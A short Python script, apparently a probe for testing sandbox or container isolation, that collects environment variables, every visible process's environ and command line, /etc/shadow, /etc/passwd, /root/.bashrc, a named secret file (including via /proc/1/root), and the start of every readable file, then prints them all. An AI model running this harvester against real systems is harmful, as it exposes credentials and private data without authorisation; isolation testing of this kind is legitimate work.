# Hunts for the host's secrets: environment, /proc of every visible process, the secret
# file's path (argv[1]), home directories, and a walk of the whole visible tree.
import os
import sys
found = []
found.append(repr(dict(os.environ)))
for pid in os.listdir("/proc"):
  if pid.isdigit():
    for name in ("environ", "cmdline"):
      try:
        with open(f"/proc/{pid}/{name}", "rb") as f:
          found.append(f.read().decode(errors="replace"))
      except OSError:
        pass
for path in [sys.argv[1], "/root/.bashrc", "/etc/shadow", "/etc/passwd",
             "/proc/1/root/" + sys.argv[1]]:
  try:
    with open(path) as f:
      found.append(f.read())
  except OSError as e:
    found.append(f"{path}: {e.__class__.__name__}")
for root, dirs, files in os.walk("/"):
  if root.startswith(("/proc", "/sys", "/usr", "/dev", sys.prefix)):
    dirs[:] = []
    continue
  for name in files:
    try:
      with open(os.path.join(root, name), errors="replace") as f:
        found.append(f.read(4096))
    except OSError:
      pass
print("\n".join(found))
